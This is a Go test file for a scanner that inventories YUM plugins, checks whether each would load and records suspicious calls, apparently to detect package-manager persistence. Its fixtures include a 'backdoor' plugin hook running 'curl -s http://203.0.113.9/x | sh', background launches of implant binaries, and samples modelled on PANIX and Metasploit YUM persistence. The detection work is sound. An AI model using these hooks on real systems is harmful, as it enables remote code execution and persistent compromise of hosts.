package yumplugins

import (
	"context"
	"github.com/pkgpersist/pkgpersist/test/treefiles"
	"path/filepath"
	"strings"
	"testing"
)

// Hand-written expectations (no YUM is packaged for Debian 12), from
// rpm-software-management/yum yum/plugins.py (_importplugins, _loadplugin,
// _getpluginconf), yum/config.py (BoolOption, YumConf defaults); see
// test/roots/yum.expected.md for each decision.
func TestYUM(t *testing.T) {
	type want struct{ enabled, imported, hooks, reason string }
	cases := map[string]map[string]want{
		"yum": {
			"backdoor":                 {"1", "1", "pretrans_hook", ""},
			"hooksdemo":                {"1", "1", "config_hook,init_hook,postreposetup_hook,close_hook", ""},
			"noconf":                   {"0", "0", "pretrans_hook", "no noconf.conf"},
			"offplug":                  {"0", "0", "init_hook", "disabled: enabled=0"},
			"post-transaction-actions": {"1", "1", "posttrans_hook", ""},
		},
		"yum-off": {
			"backdoor":  {"0", "0", "pretrans_hook", "plugins are off"},
			"hooksdemo": {"0", "0", "config_hook,init_hook,postreposetup_hook,close_hook", "plugins are off"},
		},
	}
	for root, plugins := range cases {
		rows, err := Rows(context.Background(), filepath.Join("../../../test/roots", root))
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]want{}
		for _, r := range rows {
			got[r["name"]] = want{r["enabled"], r["imported"], r["hooks"], r["reason"]}
		}
		for name, w := range plugins {
			g, ok := got[name]
			if !ok {
				t.Errorf("%s: no row for %s", root, name)
				continue
			}
			if g.enabled != w.enabled || g.imported != w.imported || g.hooks != w.hooks || !strings.Contains(g.reason, w.reason) {
				t.Errorf("%s: %s = %+v, want %+v", root, name, g, w)
			}
		}
		if root == "yum" {
			for _, r := range rows {
				if r["name"] == "backdoor" && r["calls"] != "13 def:pretrans_hook os.system /usr/bin/curl -s http://203.0.113.9/x | sh" {
					t.Errorf("backdoor calls: %q", r["calls"])
				}
			}
		}
	}
}

func TestBool(t *testing.T) {
	for v, want := range map[string][2]bool{"1": {true, true}, "True": {true, true}, "no": {false, true}, "on": {false, false}, "off": {false, false}} {
		b, ok := Bool(v)
		if b != want[0] || ok != want[1] {
			t.Errorf("Bool(%q) = %v %v", v, b, ok)
		}
	}
}

// yumRoot writes a root with yum.conf (plugins=1), an enabled .conf for
// each module and the modules in /usr/lib/yum-plugins.
func yumRoot(t *testing.T, modules map[string]string) string {
	t.Helper()
	root := t.TempDir()
	files := map[string]string{"etc/yum.conf": "[main]\nplugins=1\n"}
	for name, src := range modules {
		files["usr/lib/yum-plugins/"+name+".py"] = src
		files["etc/yum/pluginconf.d/"+name+".conf"] = "[main]\nenabled=1\n"
	}
	treefiles.Write(t, root, files)
	return root
}

// TestYUMImportTime: requires_api_version wherever YUM's import binds it,
// and Python 2 plugins. Hand-written from yum/plugins.py _loadplugin
// (imp.load_module runs the whole module; hasattr(module,
// 'requires_api_version'); apiverok against API_VERSION '2.7').
func TestYUMImportTime(t *testing.T) {
	type want struct{ enabled, imported, reason, calls string }
	cases := map[string]struct {
		src  string
		want want
	}{
		// PANIX's shape: set in try (the import of yum.plugins succeeds
		// under YUM), '1.0' only in the except handler
		"intry": {`import os
try:
	from yum.plugins import TYPE_INTERACTIVE, PluginYumExit
	requires_api_version = '2.0'
	plugin_type = TYPE_INTERACTIVE
except ImportError:
	requires_api_version = '1.0'

def pretrans_hook(conduit):
	os.system('setsid /usr/lib/yumcon 2>/dev/null & ')
`, want{"1", "1", "", "10 def:pretrans_hook os.system setsid /usr/lib/yumcon 2>/dev/null & "}},
		"inif": {`import os
if os.path.exists('/etc/yum.conf'):
    requires_api_version = '2.6'
`, want{"1", "1", "loaded only if that branch runs at import: requires_api_version is set only under if os.path.exists('/etc/yum.conf') (line 3); otherwise YUM refuses it", ""}},
		"iftrue": {`import sys
if sys.version_info[0] == 2:
    requires_api_version = '2.3'
else:
    requires_api_version = '3.0'
`, want{"1", "1", "", ""}},
		"ifdead": {`if __name__ == '__main__':
    requires_api_version = '2.3'
`, want{"0", "1", "not loaded: the module does not specify requires_api_version where it runs at import", ""}},
		"infunc": {`def setup():
    global requires_api_version
    requires_api_version = '2.3'
setup()
`, want{"1", "1", "loaded only if that branch runs at import: requires_api_version is set only under when setup() runs (reached from the import's call on line 4) (line 3)", ""}},
		"inglobals": {"globals()['requires_' + 'api_version'] = '2.4'\n", want{"1", "1", "", ""}},
		"inclass": {`class Holder:
    requires_api_version = '2.3'
`, want{"0", "1", "not loaded: the module does not specify requires_api_version", ""}},
		"py2": {`import os, commands
try:
    from yum.plugins import TYPE_CORE
    requires_api_version = '2.1'
except ImportError, e:
    print "no yum:", ` + "`e`" + `
def posttrans_hook(conduit):
    try:
        commands.getoutput('/usr/local/bin/agent --sync')
    except OSError, e:
        print >>sys.stderr, e
`, want{"1", "1", "", "9 def:posttrans_hook commands.getoutput /usr/local/bin/agent --sync"}},
		"py3only": {`requires_api_version = '2.1'
def init_hook(conduit):
    conduit.info(2, f"{conduit}")
`, want{"0", "0", "import fails, nothing of it runs: YUM 3 runs Python 2, which cannot compile an f-string (line 3)", ""}},
		"toonew":     {"requires_api_version = '2.9'\n", want{"0", "1", "not loaded: requires API 2.9; YUM 3 supports API 2.7", ""}},
		"othermajor": {"requires_api_version = '3.0'\n", want{"0", "1", "not loaded: requires API 3.0; YUM 3 supports API 2.7", ""}},
		"computed":   {"import yum.plugins\nrequires_api_version = yum.plugins.API_VERSION\n", want{"1", "1", "requires_api_version is computed (yum.plugins.API_VERSION)", ""}},
	}
	modules := map[string]string{}
	for name, c := range cases {
		modules[name] = c.src
	}
	rows, err := Rows(context.Background(), yumRoot(t, modules))
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]want{}
	for _, r := range rows {
		got[r["name"]] = want{r["enabled"], r["imported"], r["reason"], r["calls"]}
		if r["sha256"] == "" {
			t.Errorf("%s: no sha256", r["name"])
		}
	}
	for name, c := range cases {
		g := got[name]
		if g.enabled != c.want.enabled || g.imported != c.want.imported || g.calls != c.want.calls ||
			!strings.HasPrefix(g.reason, c.want.reason) || c.want.reason == "" && g.reason != "" {
			t.Errorf("%s:\n got %+v\nwant %+v", name, g, c.want)
		}
	}
}

// TestYUMBadAPIVersion: a requires_api_version parsever cannot split into
// two integers raises out of _loadplugin, and yum stops.
func TestYUMBadAPIVersion(t *testing.T) {
	rows, err := Rows(context.Background(), yumRoot(t, map[string]string{
		"a_good": "requires_api_version = '2.3'\n",
		"b_bad":  "requires_api_version = 'latest'\n",
	}))
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if r["enabled"] != "0" || !strings.Contains(r["reason"], "yum runs no plugin: requires_api_version 'latest'") {
			t.Errorf("%s: enabled=%s reason=%q", r["name"], r["enabled"], r["reason"])
		}
	}
}

// TestAttackFixtures: PANIX's YUM persistence and Metasploit's
// yum_package_manager_persistence, as test/roots/panix-yum.expected.md and
// msf-yum.expected.md explain each value.
func TestAttackFixtures(t *testing.T) {
	type want struct{ enabled, imported, hooks, reason, calls string }
	mirror := "init_hook,postreposetup_hook,clean_hook"
	cases := map[string]map[string]want{
		"panix-yum": {
			"yumcon": {"1", "1", "pretrans_hook", "", "11 def:pretrans_hook os.system setsid /usr/lib/yumcon 2>/dev/null & "},
			"fastestmirror": {"1", "1", mirror, "",
				"57 def:Probe.run socket.socket socket.AF_INET, socket.SOCK_STREAM\n60 def:Probe.run socket.connect {self.host}:80"},
		},
		"msf-yum": {
			"fastestmirror": {"1", "1", mirror, "",
				"6 import os.system setsid /usr/local/bin/Hq3vXk9 2>/dev/null & \n58 def:Probe.run socket.socket socket.AF_INET, socket.SOCK_STREAM\n61 def:Probe.run socket.connect {self.host}:80"},
		},
	}
	for root, plugins := range cases {
		rows, err := Rows(context.Background(), filepath.Join("../../../test/roots", root))
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != len(plugins) {
			t.Errorf("%s: %d rows, want %d (fastestmirror.pye is not *.py)", root, len(rows), len(plugins))
		}
		for _, r := range rows {
			g := want{r["enabled"], r["imported"], r["hooks"], r["reason"], r["calls"]}
			if w, ok := plugins[r["name"]]; !ok || g != w {
				t.Errorf("%s: %s:\n got %+v\nwant %+v", root, r["name"], g, w)
			}
			if r["sha256"] == "" || r["package"] != "" {
				t.Errorf("%s: %s: provenance %s %q", root, r["name"], r["sha256"], r["package"])
			}
		}
	}
}
